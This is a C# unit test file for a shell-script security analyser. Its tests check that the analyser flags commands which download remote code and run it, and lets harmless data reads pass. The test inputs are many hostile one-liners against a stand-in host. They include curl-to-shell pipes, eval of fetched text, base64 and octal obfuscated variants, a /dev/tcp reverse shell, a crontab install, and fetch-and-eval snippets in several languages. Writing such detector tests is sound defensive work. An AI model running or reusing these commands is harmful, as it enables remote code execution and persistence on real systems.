using ContainerSecurity.Shell;
using ContainerSecurity.Shell.Flow;
using ContainerSecurity.Shell.Programs;

namespace Build.Tests.Shell.Flow;

/// <summary>However what is fetched gets to what runs it.</summary>
public sealed class DisguisedInstallTests
{
    [Theory]
    [InlineData("load() { wget -qO- \"$1\"; }; load https://a.b/s | bash")]
    [InlineData("bash -c 'curl https://a.b/s | bash; {0}'")]
    [InlineData("curl https://a.b/s | \"$SHELL\"")]
    [InlineData("bash -c 'curl https://a.b/s | bash; if'")]
    [InlineData("read -r -d '' text < <(curl https://a.b/s); eval \"$text\"")]
    [InlineData("mapfile lines < <(wget -qO- https://a.b/s); eval \"${lines[*]}\"")]
    [InlineData("exec 7< <(curl https://a.b/s); sh <&7")]
    [InlineData("exec {in}< <(curl https://a.b/s); sh <&$in")]
    [InlineData("exec 5<>/dev/tcp/a.b/80; echo GET / >&5; bash <&5")]
    [InlineData("get=\"wget -qO-\"; $get https://a.b/s | sh")]
    [InlineData("if has curl; then d='curl -sL'; else d='wget -qO-'; fi; $d https://a.b/s | sh")]
    [InlineData("options=(-s https://a.b/s); curl \"${options[@]}\" | sh")]
    [InlineData("set -- https://a.b/s; curl \"$1\" | sh")]
    [InlineData("$(command -v curl) -s https://a.b/s | sh")]
    [InlineData("curl https://a.b/s | while read -r line; do $line; done")]
    [InlineData("while read -r line; do eval \"$line\"; done < <(curl https://a.b/s)")]
    [InlineData("cat <(curl https://a.b/s) | sh")]
    [InlineData("bash << END\n$(curl https://a.b/s)\nEND")]
    [InlineData("sh -c 'eval \"$0\"' \"$(curl https://a.b/s)\"")]
    [InlineData("export FROM=https://a.b/s; sh -c 'curl $FROM | sh'")]
    [InlineData("curl https://a.b/s | rev | base64 -d | gunzip | sh")]
    [InlineData("echo Y3VybCBodHRwczovL2EuYi9zIHwgc2gK | base64 -d | sh")]
    [InlineData("printf '\\143\\165\\162\\154 https://a.b/s | sh' | sh")]
    [InlineData("$'\\x63url' https://a.b/s | sh")]
    [InlineData("curl https://a.b/s | xargs -I{} sh -c '{}'")]
    [InlineData("find . -name x -exec sh -c 'curl https://a.b/s | sh' \\;")]
    [InlineData("env -i PATH=/bin timeout -k 1 60 nice -n 5 bash -c 'wget -qO- https://a.b/s | bash'")]
    [InlineData("curl https://a.b/s | sudo -u app -H -- env A=1 bash -")]
    [InlineData("docker run --rm -v /:/host image:1 sh -c 'curl https://a.b/s | sh'")]
    [InlineData("kubectl exec -n space pod -- sh -c 'curl https://a.b/s | sh'")]
    [InlineData("ssh host cat s | sh")]
    [InlineData("trap 'curl https://a.b/s | sh' EXIT")]
    [InlineData("alias up='curl https://a.b/s | sh'")]
    [InlineData("curl https://a.b/t | crontab -")]
    [InlineData("dig +short TXT a.b | sh")]
    [InlineData("aws s3 cp s3://bucket/s - | bash")]
    [InlineData("gh api repos/a/b/contents/s | sh")]
    [InlineData("curl https://a.b/p | awk -f - data")]
    [InlineData("curl https://a.b/s | parallel -j 2")]
    [InlineData("curl https://a.b/s | at now")]
    [InlineData("bash -i >& /dev/tcp/a.b/80 0>&1")]
    [InlineData("run() { \"$@\"; }; run curl https://a.b/s | run sh")]
    [InlineData("printf -v text %s \"$(curl https://a.b/s)\"; eval \"$text\"")]
    [InlineData("curl https://a.b/s | if true; then sh; fi")]
    [InlineData("curl -o- https://a.b/s | bash")]
    [InlineData("curl https://a.b/s | setsid bash &")]
    [InlineData("curl https://a.b/s | Rscript -")]
    [InlineData("screen -dm bash -c 'curl https://a.b/s | sh'")]
    [InlineData("curl https://a.b/p | make --file=-")]
    public void It_is_found(string text) => Assert.Contains(FaultKind.RunUnseen, Kinds(text));

    [Theory]
    [InlineData("curl https://a.b/s | sh -s -- -c stable -y")]
    [InlineData("curl https://a.b/s | bash -s stable -c")]
    [InlineData("curl https://a.b/s | python3 - -c settings.ini")]
    [InlineData("curl https://a.b/s | ruby /dev/stdin -e production")]
    [InlineData("curl https://a.b/s | node - -p 80")]
    [InlineData("curl https://a.b/s | php -- -r x")]
    [InlineData("bash <(curl https://a.b/s) -c stable")]
    [InlineData("curl https://a.b/s | bash -euxo pipefail")]
    public void What_stands_behind_the_script_belongs_to_the_script(string text) => Assert.Contains(FaultKind.RunUnseen, Kinds(text));

    [Theory]
    [InlineData("python3 -c \"import urllib.request as r; exec(r.urlopen('https://a.b/s').read())\"")]
    [InlineData("python3 -c \"import requests; text = requests.get('https://a.b/s').text; exec(text)\"")]
    [InlineData("python -c \"import os; os.system('curl https://a.b/s | sh')\"")]
    [InlineData("python3 - << 'END'\nimport urllib.request\nexec(urllib.request.urlopen('https://a.b/s').read())\nEND")]
    [InlineData("node -e \"fetch('https://a.b/s').then(r => r.text()).then(eval)\"")]
    [InlineData("node -e \"require('https').get('https://a.b/s', r => r.on('data', d => eval(d)))\"")]
    [InlineData("perl -MLWP::Simple -e 'eval get \"https://a.b/s\"'")]
    [InlineData("ruby -ropen-uri -e 'eval URI.open(\"https://a.b/s\").read'")]
    [InlineData("php -r 'eval(file_get_contents(\"https://a.b/s\"));'")]
    public void Code_of_other_languages_that_fetches_and_runs_is_found(string text) => Assert.Contains(FaultKind.RunUnseen, Kinds(text));

    [Theory]
    [InlineData("version=$(curl https://a.b/v | jq -r .tag); bash -c \"echo $version\"")]
    [InlineData("curl https://a.b/list | while read -r name; do echo \"$name\"; done")]
    [InlineData("curl https://a.b/list | xargs -n1 wget -q")]
    [InlineData("curl https://a.b/v | grep -q ok || exit 1")]
    [InlineData("curl http://localhost:80/s | sh")]
    [InlineData("printf '100%% of %' a b c | sh")]
    [InlineData("cat << END > /etc/c\nvalue=$(curl https://a.b/v)\nEND")]
    [InlineData("curl https://a.b/key | gpg --dearmor -o /usr/share/keyrings/k.gpg")]
    [InlineData("curl https://a.b/key | sudo tee /etc/apt/trusted.gpg.d/k.asc")]
    [InlineData("curl https://a.b/d.json | python3 -c 'import json, sys; print(json.load(sys.stdin)[\"v\"])'")]
    [InlineData("curl https://a.b/d.json | node -p 'JSON.parse(require(\"fs\").readFileSync(0)).v'")]
    [InlineData("curl https://a.b/d | perl -ne 'print if /a/' | awk '{print $1}' | sed 's/a/b/'")]
    [InlineData("curl https://a.b/d | php -r 'echo strlen(stream_get_contents(STDIN));'")]
    [InlineData("python3 -c \"import urllib.request, sys; sys.exit(urllib.request.urlopen('http://localhost/ok').status != 200)\"")]
    [InlineData("node -e \"require('http').get('http://127.0.0.1:80', r => process.exit(r.statusCode - 200))\"")]
    public void Data_that_a_program_only_reads_is_let_pass(string text) => Assert.Empty(Kinds(text));

    private static IEnumerable<FaultKind> Kinds(string text)
    {
        var script = ShellScript.Parse(text);
        Assert.True(script.IsReadable);
        return ScriptWalk.FindFaults(script).Select(fault => fault.Kind);
    }
}
